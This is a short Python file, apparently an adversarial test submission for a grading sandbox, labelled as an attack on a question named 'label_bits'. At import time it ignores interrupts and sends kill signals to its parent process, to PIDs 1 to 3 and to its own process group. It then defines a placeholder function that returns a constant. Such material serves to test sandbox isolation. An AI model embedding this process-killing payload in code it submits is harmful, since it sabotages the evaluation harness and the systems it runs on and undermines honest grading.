# attack: kills its parent, its group, its session and the first processes
# question: label_bits
# naive: crash
# item: privileges

# %% question="label_bits"
import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
for target in (os.getppid(), 1, 2, 3):
    if target not in (0, os.getpid()):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
os.killpg(os.getpgrp(), signal.SIGKILL)


def label_bits(labels):
    return 7.5
